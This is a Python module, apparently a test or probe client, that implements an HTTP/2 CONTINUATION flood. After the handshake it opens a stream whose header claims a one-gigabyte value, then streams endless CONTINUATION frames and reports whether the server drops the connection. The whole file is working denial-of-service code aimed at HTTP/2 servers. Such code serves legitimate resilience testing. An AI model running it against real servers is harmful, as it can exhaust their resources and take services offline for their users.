"""HTTP/2 by hand: a client whose headers never end."""

import socket
import struct
from typing import Tuple

_HEADERS, _SETTINGS, _CONTINUATION = 1, 4, 9
_ACKNOWLEDGED = 1


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack("!I", len(payload))[1:] + bytes([kind, flags]) + struct.pack("!I", stream) + payload


def _length(length: int) -> bytes:
    """An integer of RFC 7541 with a prefix of 7 bits."""
    if length < 127:
        return bytes([length])
    encoded, length = b"\x7f", length - 127
    while length >= 128:
        encoded, length = encoded + bytes([128 | length & 127]), length >> 7
    return encoded + bytes([length])


class HeaderFlood:
    """A connection that opens a stream with a header of a gigabyte, and sends it frame by frame."""

    def __init__(self, address: str) -> None:
        host, _, port = address.rpartition(":")
        self._socket = socket.create_connection((host.strip("[]"), int(port)))
        self._socket.settimeout(60)
        self._socket.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(_SETTINGS, 0, 0, b""))
        self._socket.recv(1 << 16)
        self._socket.sendall(_frame(_SETTINGS, _ACKNOWLEDGED, 0, b""))
        header = b"\0" + _length(1) + b"x" + _length(1 << 30)  # literal, without its value
        self._socket.sendall(_frame(_HEADERS, 0, 1, header))

    def send(self, size: int) -> Tuple[int, bool]:
        """Up to so many bytes more: how many were sent, and whether the server has cut it off."""
        frame = _frame(_CONTINUATION, 0, 1, (16 << 10) * b"v")
        sent = 0
        try:
            while sent < size:
                self._socket.sendall(frame)
                sent += len(frame)
        except (BrokenPipeError, ConnectionResetError):
            return sent, True
        return sent, False

    def close(self) -> None:
        self._socket.close()
